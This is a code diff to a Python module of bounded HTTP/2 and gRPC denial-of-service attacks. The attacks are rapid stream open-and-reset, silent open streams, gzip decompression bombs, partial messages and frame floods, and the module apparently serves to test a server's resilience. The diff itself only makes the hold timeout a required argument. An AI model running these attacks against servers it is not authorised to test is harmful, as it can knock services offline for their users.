@@ -1,6 +1,7 @@
 """The attacks, each on one connection or a stated number of them; none is unbounded in count or time.
 
-An attack gets the server's address and returns what became of it. Does not know how the server is doing.
+An attack gets the server's address and returns what became of it. Once all is sent, it waits for the server
+to close the connection, for `hold_seconds` at most. Does not know how the server is doing.
 """
 
 import contextlib
@@ -35,8 +36,8 @@ class Outcome:
         return f"{end} after {self.num_sent / 1e6:.2f} MB, {self.num_resets} resets"
 
 
-def _outcome(connection, *, seconds=5.0):
-    is_closed = connection.is_closed(seconds)
+def _outcome(connection, hold_seconds):
+    is_closed = connection.is_closed(hold_seconds)
     return Outcome(is_closed, connection.num_sent, connection.received[frames.RST_STREAM])
 
 
@@ -58,17 +59,17 @@ def _each(count, make):
         yield b"".join(map(make, numbers[at : at + _CHUNK]))
 
 
-def open_and_reset(address, count, path=STREAM, *, seconds=5.0):
+def open_and_reset(address, count, path=STREAM, *, hold_seconds):
     """Opens calls and resets each at once."""
     block = frames.call_headers(path)
     with connected(address) as connection:
         for piece in _each(count, lambda number: frames.opened(number, block) + frames.reset(number)):
             if not connection.send(piece):
                 break
-        return _outcome(connection, seconds=seconds)
+        return _outcome(connection, hold_seconds)
 
 
-def open_in_silence(address, count, path=STREAM, *, num_indexed=0, hold_seconds=2.0):
+def open_in_silence(address, count, path=STREAM, *, num_indexed=0, hold_seconds):
     """Opens calls and sends nothing; with `num_indexed` each has that many large headers, of a byte each."""
     block = frames.call_headers(path, frames.indexed(num_indexed))
     with connected(address) as connection:
@@ -82,7 +83,7 @@ def open_in_silence(address, count, path=STREAM, *, num_indexed=0, hold_seconds=
             )
             if not connection.send(piece):
                 break
-        return _outcome(connection, seconds=hold_seconds)
+        return _outcome(connection, hold_seconds)
 
 
 def packed(num_bytes, encoding="gzip"):
@@ -94,7 +95,7 @@ def packed(num_bytes, encoding="gzip"):
     return b"\1" + len(found).to_bytes(4, "big") + found
 
 
-def inflate(address, num_messages, num_bytes, *, num_streams=1, path=STREAM, hold_seconds=10.0):
+def inflate(address, num_messages, num_bytes, *, num_streams=1, path=STREAM, hold_seconds):
     """Sends messages on some streams, all of them together at once; each inflates to `num_bytes`."""
     message = packed(num_bytes) * num_messages
     block = frames.call_headers(path, frames.literal(b"grpc-encoding", b"gzip"))
@@ -107,10 +108,10 @@ def inflate(address, num_messages, num_bytes, *, num_streams=1, path=STREAM, hol
                 + b"".join(frames.frame(frames.DATA, 0, number, piece) for piece in cut)
             ):
                 break
-        return _outcome(connection, seconds=hold_seconds)
+        return _outcome(connection, hold_seconds)
 
 
-def half_messages(address, num_streams, num_bytes, *, path=STEP, hold_seconds=3.0):
+def half_messages(address, num_streams, num_bytes, *, path=STEP, hold_seconds):
     """Sends the first `num_bytes` of a message on each of some calls, within the windows, and no more."""
     block = frames.call_headers(path)
     sent = b"\0" + (num_bytes + 1).to_bytes(4, "big") + bytes(num_bytes - 5)
@@ -130,10 +131,10 @@ def half_messages(address, num_streams, num_bytes, *, path=STEP, hold_seconds=3.
             ):
                 break
             budget -= taken
-        return _outcome(connection, seconds=hold_seconds)
+        return _outcome(connection, hold_seconds)
 
 
-def flood(address, piece, num_pieces, *, reads=True, before=b"", hold_seconds=5.0):
+def flood(address, piece, num_pieces, *, reads=True, before=b"", hold_seconds):
     """Sends `piece` again and again, after `before`."""
     with connected(address, reads=reads) as connection:
         connection.socket.settimeout(5.0)
@@ -144,7 +145,7 @@ def flood(address, piece, num_pieces, *, reads=True, before=b"", hold_seconds=5.
                     break
         if not reads:
             return Outcome(_is_reset(connection.socket), connection.num_sent, 0)
-        return _outcome(connection, seconds=hold_seconds)
+        return _outcome(connection, hold_seconds)
 
 
 def _is_reset(connected_socket):
